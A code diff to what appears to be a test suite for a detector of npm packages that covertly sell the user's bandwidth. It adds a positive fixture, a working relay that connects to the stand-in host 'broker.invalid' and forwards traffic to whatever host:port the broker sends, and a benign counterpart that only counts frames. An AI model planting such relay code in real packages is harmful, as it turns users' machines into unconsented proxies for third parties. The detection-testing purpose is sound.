@@ -8,6 +8,14 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(sellsBandwidth, {
   speaks: [
     {
+      when: 'what comes is first cut into frames by a function that another one makes',
+      files: {
+        'index.js': `const tls = require('tls'), net = require('net'); const frames = on => { let all = Buffer.alloc(0); return chunk => { all = Buffer.concat([all, chunk]); on(all.readUInt16BE(0), all.subarray(7)); }; };
+          const link = tls.connect({ host: 'broker.invalid', port: 443 }); link.on('data', frames((id, data) => { const [host, port] = data.toString().split(':'); const out = net.connect(Number(port), host); out.on('data', x => link.write(x)) }));`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a lookup does it once somebody calls it',
       files: {
         'package.json': { name: 'inert-lookup', version: '1.0.0', main: 'index.js', description: 'Looks up the country of an address' },
@@ -45,6 +53,13 @@ examine(sellsBandwidth, {
     },
   ],
   silent: [
+    {
+      when: 'what comes in frames is only counted',
+      files: {
+        'index.js': `const tls = require('tls'), net = require('net'); const frames = on => { let all = Buffer.alloc(0); return chunk => { all = Buffer.concat([all, chunk]); on(all.length); }; };
+          const link = tls.connect({ host: 'broker.invalid', port: 443 }); link.on('data', frames(size => console.log(size))); const out = net.connect(80, 'own.invalid'); out.on('data', x => link.write(x));`,
+      },
+    },
     {
       when: 'a socket of its own tells which of its pages to ask for',
       files: {
